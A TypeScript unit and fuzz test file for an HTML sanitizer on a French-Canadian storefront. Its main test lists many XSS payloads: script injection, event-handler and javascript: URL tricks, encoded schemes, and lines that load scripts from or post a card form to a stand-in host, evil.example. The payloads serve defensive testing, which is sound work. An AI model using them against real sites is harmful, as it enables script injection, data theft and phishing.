// cspell:ignore avascript fjäll msgbox mtext xlink
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { sanitizeHtml } from './resolve-blocks.server'

const clean = (html: string) => sanitizeHtml(html, 'fr-ca')
const tag = /<\/?(p|h2|h3|ul|ol|li|strong|em|br|blockquote|small|sup|a)( href(="[^"<>]*")?)*\s*\/?>/g
const hrefsIn = (html: string) =>
  [...html.matchAll(/<a[^>]*>/g)].flatMap(([link]) => [...link.matchAll(/href="([^"]*)"/g)].map(([, href = '']) => href))

/** The text that remains once every allowed tag is removed. */
const rest = (html: string) => html.replace(tag, '')

test.each([
  ['<p>Wind and <strong>rain</strong></p>'],
  ['<h2>Care</h2><ul><li>Wash cold</li><li>Dry <em>flat</em></li></ul>'],
  ['<blockquote>Bon</blockquote><ol><li>1<sup>er</sup></li></ol><small>fin</small><br>'],
  ['Straße 🏔 &amp; fjäll &lt;3'],
])('%s stays as it was written', (html) => {
  expect(clean(html)).toBe(html)
})

test.each([
  ['/c/men-jackets-1010', '/fr-ca/c/men-jackets-1010'],
  ['/help/delivery?from=a&amp;to=b', '/fr-ca/help/delivery?from=a&amp;to=b'],
  ['https://example.org/story', 'https://example.org/story'],
  ['#care', '#care'],
  ['mailto:help@example.org', 'mailto:help@example.org'],
  ['tel:+15035550141', 'tel:+15035550141'],
])('a link to %s becomes %s', (href, target) => {
  expect(clean(`<a href="${href}">x</a>`)).toBe(`<a href="${target}">x</a>`)
})

test.each([
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<script/x>alert(1)</script >',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" />',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<p onclick="alert(1)">x</p>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p/onmouseover=alert(1)>x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="/&Tab;/evil.example">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="http://example.org">x</a>',
  '<a href="/x" onclick="alert(1)">x</a>',
  `<a href='/x" onclick="alert(1)'>x</a>`,
  '<a href="/x"onclick=alert(1)>x</a>',
  '<a href=/x onclick=alert(1)>x</a>',
  '<a href="mailto:a@b.example?subject=x&body=<script>">x</a>',
  '<a href="tel:*21*15035550141%23">x</a>',
  '<a href="/x" target="_blank" style="position:fixed;inset:0">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="x"></object><embed src="x">',
  '<form action="https://evil.example"><input name="card"><button>Pay</button></form>',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<style>@import "https://evil.example/x.css"</style>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<video><source onerror="alert(1)"></video>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<p id="main" name="cookie" class="primary">x</p>',
  '<<p>script>alert(1)<</p>/script>',
  '<p title="<script>alert(1)</script>">x</p>',
  '<a href="https://shop.example/" xlink:href="javascript:alert(1)">x</a>',
  '<p',
  '<a href="/x',
  '</p><script',
])('%s leaves nothing that runs, loads, posts, styles or names (SEC-08)', (html) => {
  const safe = clean(html)
  expect(rest(safe)).not.toMatch(/[<>]/)
  for (const href of hrefsIn(safe)) expect(href).toMatch(/^(\/fr-ca\/|https:\/\/|#|mailto:|tel:\+\d+$|$)/)
  expect(safe).not.toMatch(/\son\w+=["']?alert/)
})

test('the content of a script or a style is removed with it, the content of other tags stays', () => {
  expect(clean('a<script>alert(1)</script>b<style>p{}</style>c')).toBe('abc')
  expect(clean('<div class="x"><span>Wind</span></div>')).toBe('Wind')
})

test('however broken the tags are, only allowed ones come out (SEC-08)', () => {
  const piece = fc.constantFrom(
    '<',
    '>',
    '/',
    '"',
    "'",
    '=',
    ' ',
    'script',
    'p',
    'a',
    'href',
    'javascript:',
    'onclick',
    'svg',
    '<p>',
    '<a href="',
    '/x',
    '<!--',
    '-->',
    '&#60;',
    '\n',
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 25 }), (pieces) => {
      const safe = clean(pieces.join(''))
      expect(rest(safe)).not.toMatch(/[<>]/)
      for (const href of hrefsIn(safe)) expect(href).not.toMatch(/^\s*\w+script:/i)
    }),
    { numRuns: 3_000 },
  )
})

test('cleaning twice changes nothing more', () => {
  for (const html of ['<p>a & b</p>', '<a href="#x?a=1&amp;b=2">x</a>', '<em>x</em><script>1</script>'])
    expect(clean(clean(html))).toBe(clean(html))
})
